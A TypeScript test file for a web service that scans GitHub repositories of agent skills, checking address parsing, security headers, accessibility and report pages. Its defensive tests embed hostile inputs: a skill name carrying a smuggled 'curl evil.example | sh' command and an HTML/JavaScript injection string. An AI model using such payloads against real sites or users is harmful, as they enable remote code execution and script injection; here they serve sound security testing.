import axe from 'axe-core'
import type { AxeResults } from 'axe-core'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { gzipSync } from 'node:zlib'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { hasBrowser, howToGetBrowser, openBrowser } from '../../../../tests/browser.js'
import type { TestServer, TestServerOptions } from '../../test-server.js'
import { testServer } from '../../test-server.js'
import { assets } from '../assets.js'
import { parseAddress, formatAddress } from './address.js'

const skill = (name: string, body = 'Count the words of the text.') =>
  `---\nname: ${name}\ndescription: Counts the words of a text. Use when the user asks how long a text is.\n---\n\n# Count\n\n${body}\n`

const asPage = { accept: 'text/html' }
let server: TestServer

async function serverWith(options: TestServerOptions = {}) {
  server = await testServer(options)
  server.github.host('acme/skills', {
    'count/SKILL.md': skill('count'),
    'Bad_Name/SKILL.md': skill('Bad_Name'),
  })
  return server
}
afterEach(() => server?.stop())

describe('without a browser', () => {
  it.each([
    ['acme/skills', { owner: 'acme', repo: 'skills' }],
    [' https://github.com/acme/skills.git ', { owner: 'acme', repo: 'skills' }],
    ['git@github.com:acme/skills.git', { owner: 'acme', repo: 'skills' }],
    ['github.com/acme/skills/', { owner: 'acme', repo: 'skills' }],
    [
      'https://github.example.com/acme/skills/tree/main/a/b%20c',
      { owner: 'acme', repo: 'skills', ref: 'main', path: 'a/b c' },
    ],
    [
      'https://github.com/acme/skills/blob/v1/a/SKILL.md?plain=1#L3',
      { owner: 'acme', repo: 'skills', ref: 'v1', path: 'a/SKILL.md' },
    ],
    ['acme/skills/tree/main', { owner: 'acme', repo: 'skills', ref: 'main' }],
    ['https://github.com/acme/skills/issues/3', { owner: 'acme', repo: 'skills' }],
    ['acme', undefined],
    ['', undefined],
    ['../..', undefined],
    ['javascript:alert(1)', undefined],
    ['a'.repeat(1000), undefined],
  ])('%j means %j', (typed, address) => expect(parseAddress(typed)).toEqual(address))

  it.each([
    { owner: 'acme', repo: 'skills' },
    { owner: 'acme', repo: 'skills', ref: 'feature/one' },
    { owner: 'acme', repo: 'skills', path: 'a/SKILL.md' },
    { owner: 'acme', repo: 'skills', ref: 'v1', path: 'a b/c#d?e%41/ü' },
    { owner: 'acme', repo: 'skills', ref: '%2e', path: 'long/'.repeat(200) + 'x' },
  ])('"Scan again" means what is shown: %j', (address) => {
    expect(parseAddress(formatAddress(address))).toEqual(address)
  })

  it('"Scan again" of a skill asks for the newest commit, and of a branch for that branch', async () => {
    await serverWith()
    const hosted = server.github.host('acme/two', { 'a/SKILL.md': skill('a') })
    hosted.refs = { 'next/one': hosted.git.head()! }
    server.github.host('acme/one', { 'SKILL.md': skill('one'), 'b/SKILL.md': skill('b') })
    const again = async (query: string, repo = 'two') => {
      const { text } = await server.get(`/r/acme/${repo}${query}`, asPage)
      expect(text).toContain(`href="/v1/repos/acme/${repo}/evaluate${query.replace('&', '&amp;')}"`)
      const [, typed = ''] = /name="q" value="([^"]*)"/.exec(text) ?? []
      const went = await fetch(new URL(`/go?${new URLSearchParams({ q: typed })}`, server.url), {
        redirect: 'manual',
      })
      return went.headers.get('location')
    }
    for (const query of ['', '?path=a', '?ref=next%2Fone', '?path=a&ref=next%2Fone'])
      expect(await again(query)).toBe(`/r/acme/two${query}`)
    expect(await again('?path=SKILL.md', 'one')).toBe('/r/acme/one?path=SKILL.md')
  })

  it('is read and followed by forms alone, and names the routes to the one who asks for JSON', async () => {
    await serverWith()
    const start = await server.get('/', asPage)
    expect(start.headers.get('content-type')).toBe('text/html; charset=utf-8')
    expect(start.text).toContain('<form class="scan" action="/go"')
    const { url } = server
    const went = await fetch(new URL('/go?q=github.com/acme/skills/tree/main/count', url), {
      redirect: 'manual',
    })
    expect([went.status, went.headers.get('location')]).toEqual([303, '/r/acme/skills?path=count&ref=main'])
    const report = await server.get('/r/acme/skills', asPage)
    expect(report.status).toBe(200)
    for (const words of [
      'Bad_Name',
      'npx skills add acme/skills',
      'git clone https://github.com/acme/skills.git',
      'badge.svg',
    ])
      expect(report.text).toContain(words)
    expect((await server.get('/checks', asPage)).text).toContain('structure.skill-md-exists')
    const listed = await server.get('/', { accept: 'application/json' })
    for (const { headers } of [start, listed]) expect(headers.get('vary')).toMatch(/\bAccept(?:,|$)/)
    const routes = JSON.parse(listed.text) as { routes: string[] }
    expect(routes.routes).toContain('GET /v1/repos/{owner}/{repo}/evaluate')
  })

  it.each([
    ['0', 'http'],
    ['1', 'https'],
  ])('has a badge of the address that a proxy tells, if one is trusted (%s)', async (proxies, protocol) => {
    await serverWith({ env: { TRUST_PROXY: proxies } })
    const { text } = await server.get('/r/acme/skills', { ...asPage, 'x-forwarded-proto': 'https' })
    expect(/\[!\[skillgauge\]\((\w+):/.exec(text)?.[1]).toBe(protocol)
  })

  it('allows nothing but its own files, which are kept for good and are small', async () => {
    await serverWith()
    for (const path of ['/', '/checks', '/r/acme/skills', '/r/acme/none', '/go?q=x']) {
      const { headers, text } = await server.get(path, asPage)
      const policy = headers.get('content-security-policy')!
      expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'")
      expect(policy).not.toContain('unsafe')
      expect(text).not.toMatch(
        /<script(?![^>]*src=)|<style|\sstyle=|\son\w+=|https?:\/\/(?!github\.com|127\.0\.0\.1)[^"]*\.(?:js|css|png)/,
      )
    }
    const files = Object.values(assets)
    for (const { name, type } of files) {
      const { headers } = await server.get(`/assets/${name}`)
      expect(headers.get('content-type')).toBe(type)
      expect(headers.get('cache-control')).toContain('immutable')
    }
    expect(files.reduce((sum, { body }) => sum + gzipSync(body).length, 0)).toBeLessThan(60_000)
  })

  it('puts no name of a stranger into a command that people paste', async () => {
    await serverWith()
    const evil = { 'a/SKILL.md': skill('"x; curl evil.example | sh"'), 'b/SKILL.md': skill('b') }
    server.github.host('acme/evil', evil)
    const commands = async (path: string) => {
      const { text } = await server.get(`/r/acme/evil?path=${path}`, asPage)
      return [...text.matchAll(/<code tabindex="0" data-copy="[^"]*">(npx[^<]*|gh[^<]*)</g)].map(
        ([, command]) => command,
      )
    }
    expect(await commands('a')).toEqual(['npx skills add acme/evil', 'gh skill install acme/evil'])
    expect(await commands('b')).toEqual([
      'npx skills add acme/evil --skill b',
      'gh skill install acme/evil b',
    ])
  })

  it('says in the same words as the API what cannot be shown', async () => {
    await serverWith({ env: { SKILLGAUGE_SCANS_PER_MINUTE: '2' } })
    server.github.host('acme/secret', { 'a/SKILL.md': skill('a') }).private = true
    for (const name of ['acme/none', 'acme/secret']) {
      const { status, text, headers } = await server.get(`/r/${name}`, asPage)
      expect([status, headers.get('cache-control')]).toEqual([404, 'no-store'])
      expect(text).toContain('was not found. It may be private')
    }
    expect((await server.get('/r/acme/skills', asPage)).status).toBe(429)
  })

  it('tells what was scanned last only when its operator wants that', async () => {
    await serverWith({ env: { SKILLGAUGE_RECENT: '1' } })
    expect((await server.get('/', asPage)).text).not.toContain('Scanned last')
    await server.get('/r/acme/skills', asPage)
    expect((await server.get('/', asPage)).text).toContain('<a href="/r/acme/skills">acme/skills</a>')
  })

  it.each([
    ['without a token', {}, undefined],
    ['with one that may see private repositories', { GITHUB_TOKEN: 'ours' }, 'repo'],
  ])('tells of no repository that is private by now, or may be, %s', async (_, env, scopes) => {
    await serverWith({ env: { SKILLGAUGE_RECENT: '1', ...env }, github: { token: 'ours', scopes } })
    const other = server.github.host('acme/other', { 'a/SKILL.md': skill('a') })
    await server.get('/r/acme/skills', asPage)
    await server.get('/r/acme/other', asPage)
    const listed = async () => {
      const { text } = await server.get('/', asPage)
      return [...text.matchAll(/<a href="\/r\/acme\/(\w+)/g)].map(([, repo]) => repo).sort()
    }
    expect(await listed()).toEqual(['other', 'skills'])
    other.private = true
    expect(await listed()).toEqual(['skills'])
    other.private = false
    expect(await listed()).toEqual(['other', 'skills'])
    server.github.faults = ({ url }) => (url.includes('other') ? { status: 500 } : undefined)
    expect(await listed()).toEqual(['skills'])
  })

  it('tells how far a scan has come, as events', async () => {
    await serverWith()
    const { text, headers } = await server.get('/progress?q=acme/skills')
    expect(headers.get('content-type')).toBe('text/event-stream; charset=utf-8')
    expect(text).toMatch(/^event: commit\ndata: {"repository":"acme\/skills","commit":"[0-9a-f]{40}"}\n\n/)
    expect(text).toMatch(/event: done\ndata: {"url":"\/r\/acme\/skills"}\n\n$/)
    expect((await server.get('/progress?q=acme/none')).text).toMatch(
      /^event: failed\ndata: {"detail":"acme\/none was not found/,
    )
    expect((await server.get('/progress?q=nothing')).text).toContain('event: failed')
  })
})

describe.skipIf(!hasBrowser)(hasBrowser ? 'in a browser' : howToGetBrowser, () => {
  let browser: Browser
  let page: Page
  /** What went wrong in the page, and which hosts it has asked. */
  let trouble: string[]
  let hosts: Set<string>
  beforeAll(async () => {
    browser = await openBrowser()
  })
  afterAll(() => browser?.close())
  beforeEach(() => {
    trouble = []
    hosts = new Set()
  })
  afterEach(() => page?.context().close())

  async function open(path: string, options: BrowserContextOptions = {}) {
    const context = await browser.newContext(options)
    page = await context.newPage()
    page.on('console', (message) => {
      if (message.type() === 'error' && !/status of 4\d\d/.test(message.text())) trouble.push(message.text())
    })
    page.on('pageerror', (error) => trouble.push(error.message))
    page.on('request', (request) => hosts.add(new URL(request.url()).host))
    await page.goto(new URL(path, server.url).href)
    return page
  }

  /** What axe finds wrong. It is brought in as the page itself could not. */
  async function faults(): Promise<string[]> {
    const session = await page.context().newCDPSession(page)
    await session.send('Page.setBypassCSP', { enabled: true })
    await page.reload()
    await page.evaluate(axe.source)
    const { violations } = await page.evaluate<AxeResults>('axe.run()')
    return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)
  }

  const expectOwn = () => {
    expect(trouble).toEqual([])
    expect([...hosts]).toEqual([new URL(server.url).host])
  }

  it('somebody types a repository, sees how far its scan has come, and reads the report, by keys alone', async () => {
    await serverWith()
    let release = () => {}
    const hold = new Promise<void>((resolve) => (release = resolve))
    server.github.faults = ({ url }) => (url.includes('/git/trees/') ? { hold } : undefined)
    await open('/')
    await page.keyboard.press('Tab')
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content')
    for (let i = 0; i < 4; i++) await page.keyboard.press('Tab')
    await page.keyboard.type('acme/skills')
    await page.keyboard.press('Enter')
    await page.getByText(/^Reading acme\/skills at [0-9a-f]{7}$/).waitFor()
    release()
    await page.waitForURL('**/r/acme/skills')
    await page.getByRole('heading', { name: 'acme/skills', level: 1 }).waitFor()
    expect(await page.locator('#list > li').count()).toBe(2)
    // The filters are the script of the report.
    await page.getByRole('button', { name: 'Copy Any agent, with the skills command' }).waitFor()
    expectOwn()
  })

  it.each([
    ['/', {}],
    ['/checks', {}],
    ['/r/acme/skills', {}],
    ['/r/acme/skills?path=count', { colorScheme: 'dark' as const }],
    ['/r/acme/none', {}],
    ['/r/acme/skills', { viewport: { width: 360, height: 740 } }],
  ])('%s is what people with any senses can use (axe), as %j', async (path, options) => {
    await serverWith()
    await open(path, options)
    expectOwn()
    expect(
      await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth'),
    ).toBe(0)
    expect(await faults()).toEqual([])
  })

  it('text of a skill is text, whatever it holds', async () => {
    await serverWith()
    const evil = '<img src=x onerror=alert(1)><script>alert(2)</script></main><style>*{display:none}</style>'
    server.github.host('acme/evil', {
      'a"><b>/SKILL.md': `---\nname: "${evil.replaceAll('"', '')}"\ndescription: '${evil}'\n---\n\n${evil}\n[x](javascript:alert(3))\n`,
    })
    await open('/r/acme/evil')
    page.on('dialog', (dialog) => trouble.push(dialog.message()))
    await page.getByRole('heading', { level: 1 }).waitFor()
    expect(await page.locator('main img:not([src^="/v1/"]), main script, main style').count()).toBe(0)
    expect(await page.locator('a[href^="javascript"]').count()).toBe(0)
    expectOwn()
  })

  it('fifty skills are one page', async () => {
    await serverWith()
    server.github.host(
      'acme/fifty',
      Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`skill-${i}/SKILL.md`, skill(`skill-${i}`)])),
    )
    await open('/r/acme/fifty')
    expect(await page.locator('#list > li').count()).toBe(50)
    await page.getByText('There are more skills than these 50.').waitFor()
    expectOwn()
  })

  it('what cannot be scanned is said where somebody has typed it', async () => {
    await serverWith()
    await open('/')
    await page.getByLabel('A repository on GitHub').fill('acme/none')
    await page.getByRole('button', { name: 'Check' }).click()
    await page.getByText('acme/none was not found.').waitFor()
    expectOwn()
  })

  it('everything can be read and used without script', async () => {
    await serverWith()
    await open('/', { javaScriptEnabled: false })
    await page.getByLabel('A repository on GitHub').fill('https://github.com/acme/skills')
    await page.getByRole('button', { name: 'Check' }).click()
    await page.waitForURL('**/r/acme/skills')
    await page.getByText('npx skills add acme/skills').waitFor()
    expectOwn()
  })
})
